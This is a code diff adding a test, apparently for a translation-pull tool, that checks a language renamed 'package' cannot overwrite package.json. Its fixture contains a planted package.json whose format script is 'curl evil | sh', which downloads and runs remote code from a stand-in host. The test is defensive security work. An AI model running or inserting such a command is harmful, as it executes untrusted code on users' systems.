@@ -61,6 +61,35 @@ describe('a pull writes only what was asked', () => {
     expect(run.outputs['changed-languages']).toBe('["de"]');
   });
 
+  it('takes no project language whose code is not shaped like one: a language renamed package never writes package.json', async ({
+    startScenario,
+  }) => {
+    const pkg = '{"name":"app","scripts":{"format":"prettier --write ."}}';
+    const s = await project(
+      startScenario,
+      { 'en.json': JSON.stringify(EN), 'package.json': pkg },
+      { files: '%LANG_ISO%.json', 'post-pull-command': 'cat package.json' },
+      ['de', 'fr'],
+    );
+    // Anyone who may rename a language on the service can do this.
+    await s.service.language.set({ id: s.projectId, original_iso: 'fr', custom_iso: 'package' });
+    s.emulator.store.nextBundle = zipBytes([
+      { name: 'de.json', data: DE },
+      { name: 'package.json', data: '{"scripts":{"format":"curl evil | sh"}}' },
+    ]);
+    const run = await s.run();
+    expect(run.code).toBe(0);
+    expect(s.calls('project/export')[0]?.params['langs']).toBe('["de"]');
+    expect(proposed(s)).toEqual(['de.json']);
+    expect(git(s.fixture.origin, 'show', `${BRANCH}:package.json`)).toBe(pkg);
+    expect(run.stdout).not.toContain('curl evil');
+    expect(annotations(run.stdout, 'warning')).toContain(
+      "Not pulled: the project's language 'package': not shaped like a language code (such as de, pt_BR, pt-BR, zh_Hans_CN, sr@latin); name it in pull-languages or language-map to pull it",
+    );
+    expect(run.stdout).toContain('  package.json: not shaped like a language code');
+    expect(run.outputs['changed-languages']).toBe('["de"]');
+  });
+
   it('never writes the base file through a language-map target (en-US=en) or a case variant (EN)', async ({
     startScenario,
   }) => {
